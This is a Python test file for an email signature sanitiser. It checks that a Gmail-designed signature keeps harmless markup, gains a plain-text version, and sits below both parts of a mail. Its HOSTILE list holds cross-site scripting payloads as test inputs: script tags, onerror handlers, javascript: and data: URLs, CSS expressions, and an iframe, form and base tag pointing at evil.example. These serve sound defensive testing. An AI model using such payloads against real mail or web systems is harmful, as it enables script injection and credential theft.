"""Signatures: what was designed in Gmail stays as far as it is harmless, and has a plain text that says the same."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.handover.signature import EMPTY, HARMLESS, signature_of

DESIGNED = """<div dir="ltr" class="gmail_signature"><table cellpadding="0" onclick="x()"><tbody><tr>
<td style="color: #7b4397; font-weight: bold; position: fixed">Maya&nbsp;Lindqvist</td>
<td><a href="https://codelantern.example/" target="_blank">Codelantern</a></td></tr></tbody></table>
<img src="https://codelantern.example/logo.png" alt="" width="80"><br>
<a href="mailto:maya@codelantern.example">maya@codelantern.example</a></div>"""

HOSTILE = [
    "<script>steal()</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    '<img src=x onerror="steal()">',
    '<img src="javascript:steal()">',
    '<a href="javascript:steal()">x</a>',
    '<a href=" JaVaScRiPt:steal()">x</a>',
    '<a href="java\nscript:steal()">x</a>',
    '<a href="data:text/html,<script>steal()</script>">x</a>',
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<div style="color:expression(steal())">x</div>',
    "<svg><script>steal()</script></svg>",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>body{display:none}</style>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<b <script>steal()</script>>",
    "<!--><script>steal()</script>-->",
    '"><script>steal()</script>',
    "<div><p>never closed",
    "</div></div></table>ended too often",
]


class _Reader(HTMLParser):
    """Reads as a mail program does: what there is, and whether it is closed."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.feed(html)
        self.close()
        assert self.open == [], html

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in HARMLESS
        for name, value in attrs:
            assert name in (*HARMLESS[tag], "style")
            if name in ("href", "src"):
                assert (value or "").lower().startswith(("https://", "http://", "mailto:", "tel:"))
            if name == "style":
                assert "(" not in (value or "")
        if tag not in EMPTY:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag


def test_what_was_designed_stays_in_html_and_reads_as_text() -> None:
    made = signature_of(DESIGNED)
    assert '<td style="color: #7b4397; font-weight: bold">Maya\xa0Lindqvist</td>' in made.html
    assert '<a href="https://codelantern.example/">Codelantern</a>' in made.html
    assert '<img src="https://codelantern.example/logo.png" alt="" width="80">' in made.html
    assert "onclick" not in made.html
    assert made.text == "Maya Lindqvist Codelantern <https://codelantern.example/>\n\nmaya@codelantern.example"


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_that_could_run_or_load_or_break_the_mail_comes_through(html: str) -> None:
    made = signature_of(f"<b>Maya</b>{html}")
    _Reader(made.html)
    assert "steal" not in made.text.replace("steal()</script>-->", "").replace("steal()>", "")


@given(st.lists(st.sampled_from([*HOSTILE, DESIGNED, "<", ">", '"', "&lt;script&gt;", "Maya", "</b>"])).map("".join))
def test_any_mixture_is_harmless_and_closed(html: str) -> None:
    made = signature_of(html)
    _Reader(made.html)
    assert bool(made.html) == bool(made.text)


@given(st.text())
def test_any_text_is_harmless(html: str) -> None:
    _Reader(signature_of(html).html)


def test_escaped_text_stays_text() -> None:
    assert signature_of("&lt;script&gt; &amp; Sons").html == "&lt;script&gt; &amp; Sons"


@pytest.mark.parametrize("empty", ["", "<div><br></div>", "<script>x</script>", "&nbsp;"])
def test_who_has_none_gets_none(empty: str) -> None:
    made = signature_of(empty)
    assert made.below("Hello", "<p>Hello</p>\n") == ("Hello", "<p>Hello</p>\n")


def test_it_stands_below_both_parts_of_a_mail() -> None:
    text, html = signature_of("<b>Maya</b>").below("Hello", "<p>Hello</p>\n")
    assert text == "Hello\n\n-- \nMaya"
    assert html == '<p>Hello</p>\n<div class="gmail_signature"><b>Maya</b></div>\n'
